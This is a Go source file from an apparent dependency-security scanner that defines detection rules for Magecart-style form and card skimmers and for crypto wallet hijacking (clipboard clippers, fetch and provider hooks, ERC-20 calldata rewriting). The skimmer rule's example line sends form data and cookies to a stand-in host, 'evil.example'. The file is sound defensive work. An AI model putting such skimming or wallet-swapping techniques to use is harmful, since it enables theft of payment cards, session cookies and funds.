// Package browser holds rules about code that attacks web pages.
package browser

import (
	"context"
	"fmt"
	"regexp"
	"slices"
	"strings"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/jsast"
	"github.com/depfence/depfence/internal/rules/rulekit"
)

// FormSkimmer flags code that reads form fields and cookies and sends them away.
type FormSkimmer struct{}

// Meta implements analyze.Rule.
func (FormSkimmer) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "browser/form-skimmer", Version: 7, Title: "Skims form fields and cookies",
		Help: "Code picks payment card fields out of the page's forms (cc-number, cvv, input[name*=card]…) on submit (its own submit " +
			"listener, or one of a small module of the package that loads it: a form hook handing the form to its serializer), or reads every form's " +
			"fields (document.forms) together with document.cookie, and sends them to a hard-coded external URL (the URL given to fetch, XHR, " +
			"sendBeacon, a WebSocket or an HTTP client, or set as an Image's source; a link elsewhere in the file does not count), itself or through a small module of the package that loads it and sends. " +
			"This is a Magecart-style card skimmer: critical with card fields; medium for forms and cookies " +
			"alone, which form-analytics and session-replay SDKs also read. A script the code keeps as text for the pages it builds (a build " +
			"plugin's injected tag) is read as code, and a URL without a scheme (//host/p) takes the page's.",
		Remediation:     "Remove the package from any site build immediately.",
		Example:         `document.forms[0].addEventListener("submit", () => { new Image().src = "https://evil.example/c?d=" + btoa(data + document.cookie) })`,
		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigCred, Needs: analyze.NeedCode,
	}
}

// cardField matches the names and autocomplete tokens of payment card
// inputs.
var cardField = regexp.MustCompile(`(?i)\bcc-(number|csc|exp)\b|card[-_]?(number|num|no)\b|name\*?=["']?card|\bcvv2?\b|\bcvc\b|\bcsc\b`)

// cardHints holds a substring of every cardField match, to skip the
// expression on the strings that cannot match.
var cardHints = rulekit.NewHints("cc-", "card", "cvv", "cvc", "csc")

// Check implements analyze.Rule.
func (FormSkimmer) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		forms, cookie := 0, false
		line := 0
		for _, m := range f.Facts.Members {
			switch m.Name {
			case "document.forms":
				forms, line = m.Pos.Line, m.Pos.Line
			case "document.cookie":
				cookie = true
			}
		}
		// payment card fields picked out of the page, on submit
		submit := false
		for i := range f.Facts.Strings {
			if f.Facts.Strings[i].Value == "submit" {
				submit = true
				break
			}
		}
		// (or on the submit a small module loading this one listens for:
		// a form hook handing the form to its serializer)
		handed := !submit && forms == 0 && rulekit.SmallModule(f.Facts)
		var card *jsast.Str
		for i := 0; i < len(f.Facts.Strings) && (forms != 0 || submit || handed); i++ {
			s := &f.Facts.Strings[i]
			if len(s.Value) < 512 && cardHints.Find(s.Value) != "" && cardField.MatchString(s.Value) {
				card = s
				break
			}
		}
		if card != nil && handed {
			submit = rulekit.Loader(ctx, t, f.Name, func(g rulekit.File) bool {
				return rulekit.SmallModule(g.Facts) && slices.ContainsFunc(g.Facts.Strings, func(s jsast.Str) bool { return s.Value == "submit" })
			}) != ""
		}
		sev := finding.SeverityCritical
		what := "reads form fields and cookies"
		switch {
		case card != nil && (forms != 0 || submit):
			what, line = "reads payment card fields ("+cardField.FindString(card.Value)+")", card.Pos.Line
		case forms != 0 && cookie:
			// form analytics and session replay read their own cookie and
			// describe the fields; a skimmer goes for the card. High
			// would make any such SDK malicious with its own request.
			sev = finding.SeverityMedium
		default:
			continue
		}
		// where a request or an image goes, not any link in the file (a
		// session recorder's masking rules sit next to its docs links)
		dest, _, _ := externalDest(t, f.Facts)
		if dest == "" && card != nil && rulekit.SmallModule(f.Facts) {
			// the fields kept by this module, sent by a small module
			// that loads it (a skimmer split into observer and beacon)
			d := ""
			g := rulekit.Loader(ctx, t, f.Name, func(g rulekit.File) bool {
				if rulekit.SmallModule(g.Facts) {
					d, _, _ = externalDest(t, g.Facts)
				}
				return d != ""
			})
			if g != "" {
				dest = d + " (from " + g + ")"
			}
		}
		if dest == "" {
			continue
		}
		if card != nil && forms == 0 && f.Facts.Bundle() {
			// in a bundle, a list of autocomplete tokens ("cc-number" in a
			// compiler's a11y checks), a "submit" somewhere and a request
			// elsewhere are not a skimmer; call positions are too coarse
			// there to tell them apart
			continue
		}
		r.Report(analyze.Instance{File: f.Name, Line: line, Severity: sev, Confidence: finding.ConfidenceHigh, Message: what + " and sends them to " + dest})
	}
	return nil
}

// WalletHijack flags hooks on wallet/network APIs combined with address patterns.
type WalletHijack struct{}

// Meta implements analyze.Rule.
func (WalletHijack) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "browser/wallet-hijack", Version: 13, Title: "Hijacks crypto wallet traffic",
		Help: "Code sets a wallet transaction's recipient to a constant address (tx.to = \"0x…\" where it handles eth_sendTransaction, " +
			"named or matched by a pattern such as /^eth_(send|sign)Transaction$/; the " +
			"zero address, a library's default, does not count), or wraps the wallet provider in a Proxy whose request handler sees " +
			"eth_sendTransaction in a small file holding the selector of an ERC-20 approve, transfer or transferFrom (or setApprovalForAll): " +
			"the calldata of the user's transactions rewritten to hand tokens over; or replaces a provider's request method " +
			"(provider.request = async (args) => …) in a small file that handles eth_sendTransaction and builds those calls or sets a " +
			"recipient to a constant address, itself or in a small module it loads (a logger that forwards every call does neither); or " +
			"replaces fetch, XMLHttpRequest or window.ethereum (an assignment or Object.defineProperty), or rewrites the clipboard after reading it (a " +
			"\"copy address\" button only writes), and contains several crypto-address " +
			"patterns (Bitcoin, Ethereum, Solana, Tron...), itself or in a small module it loads (directly or through one more), or one pattern plus a hard-coded wallet address to put in its place (in a " +
			"Node program, writing the clipboard means running pbcopy, clip, wl-copy, xclip, xsel or Set-Clipboard, named in the call or in a table of " +
			"commands of the file or a module it loads that names both a reading and a writing one; in a " +
			"bundle, the address must sit next to the hook). Together this swaps payment addresses for the attacker's (the 2025 chalk/debug " +
			"compromise; clipboard clippers). A fetch or XMLHttpRequest wrapper alone (wallet SDKs time their requests) with fewer than two " +
			"literal addresses to swap in is medium.",
		Remediation:     "Remove the package and check recent transactions made from affected pages.",
		Example:         `window.fetch = async (...a) => swapAddresses(await orig(...a)) // with /0x[a-fA-F0-9]{40}/ ...`,
		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigWallet, Needs: analyze.NeedCode,
	}
}

var addrRe = []*regexp.Regexp{
	regexp.MustCompile(`0x\[(a-fA-F0-9|0-9a-fA-F|A-Fa-f0-9|a-f0-9|0-9a-f)\]\{40\}`),
	regexp.MustCompile(`\(1\|3\|bc1\)|\(bc1\|\[13\]\)|\[13\]\)?\[a-km-zA-HJ-NP-Z1-9\]|bc1q`),
	regexp.MustCompile(`T\[a-zA-Z0-9\]|T\[[A-Za-z0-9-]{4,}\]\{33\}`),
	regexp.MustCompile(`\[1-9A-HJ-NP-Za-km-z\]\{(32|43),44\}`),
	regexp.MustCompile(`(?i)ltc1|\[LM3\]|bitcoincash:`),
}

// walletAddr is one literal wallet address (Ethereum, Bitcoin, Tron).
var walletAddr = regexp.MustCompile(`^(0x[0-9a-fA-F]{40}|bc1[02-9ac-hj-np-z]{25,87}|[13][1-9A-HJ-NP-Za-km-z]{25,34}|T[1-9A-HJ-NP-Za-km-z]{33})$`)

// clipboardCmd reports whether a command reads or writes the system
// clipboard: pbpaste/pbcopy, wl-paste/wl-copy, clip, xclip (-o reads),
// xsel (-o reads, -i writes), PowerShell's Get-/Set-Clipboard.
func clipboardCmd(cmd string) (reads, writes bool) {
	l := strings.ToLower(cmd)
	reads, writes = strings.Contains(l, "get-clipboard"), strings.Contains(l, "set-clipboard")
	args := strings.Fields(cmd)
	args = args[min(1, len(args)):]
	switch rulekit.Program(cmd) {
	case "pbcopy", "clip", "wl-copy":
		writes = true
	case "pbpaste", "wl-paste":
		reads = true
	case "xclip":
		out := slices.Contains(args, "-o") || slices.Contains(args, "-out")
		reads, writes = reads || out, writes || !out
	case "xsel":
		reads = reads || slices.Contains(args, "-o") || slices.Contains(args, "--output")
		for _, a := range args {
			if a == "-i" || a == "--input" || (strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && strings.Contains(a, "i")) {
				writes = true
			}
		}
	}
	return reads, writes
}

// clipboardWrites reports a command that writes the system clipboard.
func clipboardWrites(cmd string) bool {
	_, writes := clipboardCmd(cmd)
	return writes
}

// clipboardRead reports a call that reads the clipboard or catches what
// is copied: navigator.clipboard.readText, clipboardy.read, a copy, cut
// or paste listener, or a clipboard command that reads (clipboardCmd).
func clipboardRead(c jsast.Call) bool {
	switch rulekit.Last(c.Callee) {
	case "readText", "read", "readSync", "readHTML":
		return strings.Contains(strings.ToLower(c.Callee), "clipboard")
	case "addEventListener":
		if len(c.Args) > 0 && c.Args[0].Known {
			switch c.Args[0].Value {
			case "copy", "cut", "paste":
				return true
			}
		}
		return false
	}
	if !rulekit.IsSpawn(c) {
		return false
	}
	reads, _ := clipboardCmd(rulekit.SpawnCommand(c))
	return reads
}

// Check implements analyze.Rule.
func (WalletHijack) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		hook := ""
		line := 0
		var hooks []jsast.Pos
		netOnly := true // the only hooks are on fetch/XHR (instrumentation does that too)
		for _, a := range f.Facts.Assigns {
			switch {
			case a.Target == "fetch", strings.HasPrefix(a.Target, "XMLHttpRequest.prototype."):
				hook, line = a.Target, a.Pos.Line
				hooks = append(hooks, a.Pos)
			case strings.Contains(a.Target, "ethereum"):
				hook, line, netOnly = a.Target, a.Pos.Line, false
				hooks = append(hooks, a.Pos)
			}
		}
		// a clipper reads what was copied to swap the address in it; a
		// "copy address" button only writes
		var clipWrites []jsast.Pos
		clipRead := false
		for _, c := range f.Facts.Calls {
			if clipboardRead(c) {
				clipRead = true
			}
			switch {
			case c.Callee == "navigator.clipboard.writeText", c.Callee == "clipboardy.write", c.Callee == "clipboardy.writeSync",
				strings.HasSuffix(c.Callee, ".clipboard.writeText"), strings.HasSuffix(c.Callee, "clipboard.writeText"),
				// a copy event's data replaced (e.clipboardData.setData)
				strings.HasSuffix(c.Callee, "clipboardData.setData"):
				clipWrites = append(clipWrites, c.Pos)
			case rulekit.IsSpawn(c) && clipboardWrites(rulekit.SpawnCommand(c)):
				// a clipper in Node writes through the system's tool
				clipWrites = append(clipWrites, c.Pos)
			case c.Callee == "Object.defineProperty" && len(c.Args) > 1 && c.Args[1].Known && c.Args[1].Value == "ethereum":
				// Object.defineProperty(window, "ethereum", {get() { return hooked }})
				hook, line, netOnly = "window.ethereum", c.Pos.Line, false
				hooks = append(hooks, c.Pos)
			}
		}
		if len(clipWrites) == 0 || !clipRead {
			// commands kept in a table (darwin: {read: "pbpaste", write:
			// "pbcopy"}) of the file or a module it loads, run from it
			var runs []jsast.Pos
			for _, c := range f.Facts.Calls {
				if rulekit.IsSpawn(c) && len(c.Args) > 0 && !c.Args[0].Known {
					runs = append(runs, c.Pos)
				}
			}
			if len(runs) > 0 {
				if reads, writes := clipboardTable(t, f); reads && writes {
					clipRead = true
					clipWrites = append(clipWrites, runs...)
				}
			}
		}
		if len(clipWrites) > 0 && clipRead {
			hook, line, netOnly = "the clipboard", clipWrites[0].Line, false
			hooks = append(hooks, clipWrites...)
		}
		// the act itself: a transaction's recipient set to a constant
		// address, in code that handles eth_sendTransaction
		if a := rewritten(f.Facts); a != nil {
			r.Report(analyze.Instance{File: f.Name, Line: a.Pos.Line, Confidence: finding.ConfidenceHigh,
				Message:  fmt.Sprintf("rewrites the recipient of wallet transactions to %s", a.Value),
				Evidence: rulekit.Ev(a.Snippet.String(), a.Value, "")})
			continue
		}
		if c, sel := calldataRewrite(f.Facts); c != nil {
			r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Confidence: finding.ConfidenceMedium,
				Message:  "wraps the wallet provider in a Proxy where it handles eth_sendTransaction and builds ERC-20 " + sel + " calls: transactions the user signs can be rewritten",
				Evidence: rulekit.Ev(c.Snippet.String(), sel, "")})
			continue
		}
		if in, ok := requestRewrite(t, f); ok {
			r.Report(in)
			continue
		}
		if hook == "" {
			continue
		}
		kinds := addressKinds(f.Facts)
		via := ""
		if kinds < 2 && !f.Facts.Bundle() {
			// the patterns kept by a small module the hook's file loads,
			// itself or through one more (a "normalize" helper that
			// swaps what a patterns module matches)
			if k, g := loadedAddressKinds(t, f, 2); k > kinds {
				kinds, via = k, g
			}
		}
		// the attacker's addresses to swap in (in a bundle, by the hook)
		var addrs []*jsast.Str
		for i := range f.Facts.Strings {
			s := &f.Facts.Strings[i]
			if walletAddr.MatchString(s.Value) && (!f.Facts.Bundle() || rulekit.Near(s.Pos, hooks)) &&
				!slices.ContainsFunc(addrs, func(a *jsast.Str) bool { return a.Value == s.Value }) {
				addrs = append(addrs, s)
			}
		}
		if kinds == 0 || kinds == 1 && len(addrs) == 0 {
			continue
		}
		sev := finding.SeverityCritical
		if netOnly && len(addrs) < 2 {
			// fetch wrapped for timing next to address validators and a
			// well-known contract address: a wallet SDK may do that; a
			// drainer carries the addresses it swaps in. (High would make
			// the SDK malicious with any request it makes.)
			sev = finding.SeverityMedium
		}
		if kinds >= 2 {
			msg := fmt.Sprintf("replaces %s and matches %d kinds of wallet addresses", hook, kinds)
			if via != "" {
				msg += " (through " + via + ")"
			}
			r.Report(analyze.Instance{File: f.Name, Line: line, Severity: sev, Confidence: finding.ConfidenceHigh, Message: msg})
			continue
		}
		r.Report(analyze.Instance{File: f.Name, Line: line, Severity: sev, Confidence: finding.ConfidenceHigh,
			Message:  fmt.Sprintf("replaces %s, matches wallet addresses and carries the address %s", hook, addrs[0].Value),
			Evidence: rulekit.Ev(addrs[0].Snippet.String(), addrs[0].Value, "")})
	}
	return nil
}

// loadedAddressKinds returns the most kinds of wallet address a small
// module f loads matches, following depth levels of requires, with that
// module.
func loadedAddressKinds(t *analyze.Target, f rulekit.File, depth int) (int, string) {
	best, via := 0, ""
	for _, g := range rulekit.SmallModules(t, f) {
		if k := addressKinds(g.Facts); k > best {
			best, via = k, g.Name
		}
		if depth > 1 {
			if k, h := loadedAddressKinds(t, g, depth-1); k > best {
				best, via = k, h
			}
		}
	}
	return best, via
}

// addressKinds counts the kinds of wallet address a file's strings
// match (addrRe).
func addressKinds(f *jsast.Facts) int {
	kinds := 0
	for _, re := range addrRe {
		for _, s := range f.Strings {
			if re.MatchString(s.Value) {
				kinds++
				break
			}
		}
	}
	return kinds
}

// clipHints holds a piece of every command clipboardCmd recognises.
var clipHints = rulekit.NewHints("pbcopy", "pbpaste", "clip", "wl-copy", "wl-paste", "xsel", "Clipboard")

// clipboardTable reports whether the strings of a file, or of the
// package's modules it loads, name a command that reads the clipboard and
// one that writes it.
func clipboardTable(t *analyze.Target, f rulekit.File) (reads, writes bool) {
	scan := func(facts *jsast.Facts) {
		for _, s := range facts.Strings {
			if len(s.Value) < 256 && !s.Pattern && clipHints.In(s.Value) {
				r, w := clipboardCmd(s.Value)
				reads, writes = reads || r, writes || w
			}
		}
	}
	scan(f.Facts)
	for _, im := range f.Facts.Imports {
		if reads && writes {
			break
		}
		if g := t.Resolve(f.Name, im.Module); g != "" && g != f.Name {
			if facts, err := t.Facts(g); err == nil && facts != nil {
				scan(facts)
			}
		}
	}
	return reads, writes
}

// rewritten returns an assignment of a constant wallet address to a
// transaction's recipient (tx.to = "0x…", params[0].to = DEST) in a file
// that handles eth_sendTransaction or eth_signTransaction; nil if none.
// erc20Selectors are the function selectors of the ERC-20 and ERC-721
// calls that hand over tokens or the right to spend them.
var erc20Selectors = map[string]string{"0x095ea7b3": "approve", "0xa9059cbb": "transfer", "0x23b872dd": "transferFrom",
	"0x39509351": "increaseAllowance", "0xa22cb465": "setApprovalForAll"}

// calldataRewrite returns the Proxy a small file wraps around something
// whose request it intercepts where it handles eth_sendTransaction, next
// to the selector of a call that hands over tokens, with that call's
// name: a drainer rewriting the transactions passing through the wallet
// provider. A debug logger's Proxy has no selectors; a DeFi SDK building
// an approval sends its own transaction, with no Proxy. nil if none.
func calldataRewrite(f *jsast.Facts) (*jsast.Call, string) {
	if !rulekit.SmallModule(f) {
		return nil, ""
	}
	sel, send, request := "", false, false
	for _, s := range f.Strings {
		switch {
		case txMethod(s.Value):
			send = true
		case s.Value == "request":
			request = true
		default:
			if n, ok := erc20Selectors[strings.ToLower(s.Value)]; ok && sel == "" {
				sel = n
			}
		}
	}
	if sel == "" || !send || !request {
		return nil, ""
	}
	for i := range f.Calls {
		if c := &f.Calls[i]; c.Callee == "Proxy" && len(c.Args) == 2 {
			return c, sel
		}
	}
	return nil, ""
}

// requestRewrite reports a small file that replaces a wallet provider's
// request method (provider.request = async (args) => …) where it handles
// eth_sendTransaction, and builds the calls that hand over tokens
// (selectors of approve, transfer, setApprovalForAll) or sets a
// transaction's recipient to a constant address, itself or in a small
// module it loads: the Ledger Connect Kit drainer. A provider logger
// forwards what it sees unchanged.
func requestRewrite(t *analyze.Target, f rulekit.File) (analyze.Instance, bool) {
	if !rulekit.SmallModule(f.Facts) || !sendsTx(f.Facts) {
		return analyze.Instance{}, false
	}
	var hook *jsast.Assign
	for i := range f.Facts.Assigns {
		if a := &f.Facts.Assigns[i]; rulekit.Last(a.Target) == "request" && strings.Contains(a.Target, ".") {
			hook = a
			break
		}
	}
	if hook == nil {
		return analyze.Instance{}, false
	}
	files := append([]rulekit.File{f}, rulekit.SmallModules(t, f)...)
	in := analyze.Instance{File: f.Name, Line: hook.Pos.Line, Confidence: finding.ConfidenceMedium}
	for _, g := range files {
		where := ""
		if g.Name != f.Name {
			where = " (in " + g.Name + ")"
		}
		if a := constRecipient(g.Facts); a != nil {
			in.Message = fmt.Sprintf("replaces %s where it handles eth_sendTransaction and sets the recipient to %s%s", hook.Target, a.Value, where)
			in.Evidence = rulekit.Ev(a.Snippet.String(), a.Value, "")
			return in, true
		}
		for _, s := range g.Facts.Strings {
			if sel, ok := erc20Selectors[strings.ToLower(s.Value)]; ok {
				in.Message = fmt.Sprintf("replaces %s where it handles eth_sendTransaction and builds ERC-20 %s calls%s: transactions the user signs can be rewritten", hook.Target, sel, where)
				in.Evidence = rulekit.Ev(s.Snippet.String(), s.Value, "")
				return in, true
			}
		}
	}
	return analyze.Instance{}, false
}

// sendsTx reports a file naming the wallet methods that send or sign a
// transaction.
func sendsTx(f *jsast.Facts) bool {
	return slices.ContainsFunc(f.Strings, func(s jsast.Str) bool { return txMethod(s.Value) })
}

// txMethod reports eth_sendTransaction or eth_signTransaction, or a
// regular expression literal matching them (/^eth_(send|sign)Transaction$/).
func txMethod(s string) bool {
	if s == "eth_sendTransaction" || s == "eth_signTransaction" {
		return true
	}
	return strings.HasPrefix(s, "/") && len(s) < 128 && txMethodRe.MatchString(s)
}

// txMethodRe matches the text of a regular expression over the wallet
// methods that send or sign a transaction.
var txMethodRe = regexp.MustCompile(`eth_\(?(send|sign)(\|(send|sign))*\)?(Raw)?Transaction`)

// constRecipient returns an assignment of a constant address (not the
// zero address, a library's default for a deployment or a burn) to a
// transaction's recipient (tx.to = "0x…"); nil if none.
func constRecipient(f *jsast.Facts) *jsast.Assign {
	for i := range f.Assigns {
		if x := &f.Assigns[i]; strings.HasSuffix(x.Target, ".to") && walletAddr.MatchString(x.Value) && strings.Trim(strings.ToLower(x.Value), "0x") != "" {
			return x
		}
	}
	return nil
}

// rewritten returns a transaction's recipient set to a constant address
// (constRecipient) in a file that handles eth_sendTransaction; nil if
// none.
func rewritten(f *jsast.Facts) *jsast.Assign {
	if !sendsTx(f) {
		return nil
	}
	return constRecipient(f)
}
